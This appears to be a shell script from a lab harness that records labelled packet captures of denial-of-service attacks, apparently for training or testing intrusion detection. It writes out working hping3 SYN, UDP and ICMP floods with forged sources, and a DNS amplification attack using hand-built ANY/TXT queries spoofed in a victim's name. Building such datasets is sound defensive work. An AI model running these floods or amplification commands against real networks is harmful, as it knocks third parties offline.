# Floods, bounded in packets. What goes back to forged sources ends in the router's black hole.

flood() { # FILE KIND SNAPLEN ATTACKERS WHAT HPING-OPTION…
    about attack "$2" "$1" "mixed with benign" "$4" 10.20.0.10 "$5"
    stage
    host attacker out 198.51.100.66
    capture "$3"
    murmur 600 &
    sleep 4
    attack attacker timeout 30 hping3 -q "${@:6}" 10.20.0.10
    finish 4
}

case_flood_syn_spoofed() {
    flood flood-syn-spoofed.pcap.gz flood_syn 64 "spoofed (one source per packet)" "hping3 -S --rand-source: 2500 SYNs to port 80, each from another forged address" \
        -S --rand-source -p 80 -i u400 -c 2500
}

case_flood_syn() {
    flood flood-syn.pcap.gz flood_syn 64 198.51.100.66 "hping3 -S from its own address: 2500 SYNs to port 80, answered and reset" -S -p 80 -i u300 -c 2500
}

case_flood_udp() { flood flood-udp.pcap.gz flood_udp 80 198.51.100.66 "hping3 --udp: 5000 datagrams of 512 bytes to a closed port" --udp -p 9999 -d 512 -i u300 -c 5000; }

case_flood_icmp() { flood flood-icmp.pcap.gz flood_icmp 80 198.51.100.66 "hping3 --icmp: 4000 echo requests of 400 bytes, answered" --icmp -d 400 -i u300 -c 4000; }

# large HOST SERVER: dnsmasq with a name whose records fill about 3 kB.
large() {
    local texts=() number
    for number in {1..12}; do texts+=("--txt-record=large.example.org,$(printf '%0230d' "$number")"); done
    resolver "$1" "${texts[@]}" --host-record=large.example.org,203.0.113.16 --local=/example.org/ "${@:2}"
}

# The question as bytes, with recursion desired and room for 4096 bytes (EDNS): ANY (255) and TXT (16).
questions() {
    local head='\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x01\x05large\x07example\x03org\x00'
    local tail='\x00\x01\x00\x00\x29\x10\x00\x00\x00\x00\x00\x00\x00'
    printf "$head\x00\xff$tail" >"$TMP/any"
    printf "$head\x00\x10$tail" >"$TMP/txt"
}

# amplify RESOLVER VICTIM COUNT: so many of each, in the victim's name.
amplify() {
    local type
    for type in any txt; do
        attack attacker hping3 -q --udp -a "$2" -s 3074 -p 53 -i u4000 -c "$3" -d "$(stat -c %s "$TMP/$type")" -E "$TMP/$type" "$1"
    done
}

case_amp_dns() {
    about attack amp_dns amp-dns.pcap.gz "mixed with benign" "reflectors (203.0.113.61-66)" 10.20.0.10 \
        "ANY and TXT questions forged (hping3 -a) in the victim's name to six dnsmasq outside, whose answers of 3 kB, in fragments, hit the victim"
    stage
    host attacker out 198.51.100.66
    host open out 203.0.113.61
    also open 203.0.113.{62..66}
    large open
    questions
    capture 128
    murmur 600 &
    sleep 4
    local last sent=()
    for last in {61..66}; do amplify "203.0.113.$last" 10.20.0.10 60 & sent+=($!); done
    BEGAN=$(date +%s.%N)
    wait "${sent[@]}"
    ENDED=$(date +%s.%N)
    finish 4
}

case_amp_dns_reflector() {
    about attack amp_dns amp-dns-reflector.pcap.gz "mixed with benign" "spoofed as 198.51.100.20 (the victim)" 198.51.100.20 \
        "the same from the other side: the cluster's own dnsmasq 10.20.0.54 is misused, its answers of 3 kB go to the victim outside"
    stage
    host attacker out 198.51.100.66
    host open in 10.20.0.54
    large open
    questions
    capture 128
    murmur 600 &
    sleep 4
    amplify 10.20.0.54 198.51.100.20 200
    finish 4
}
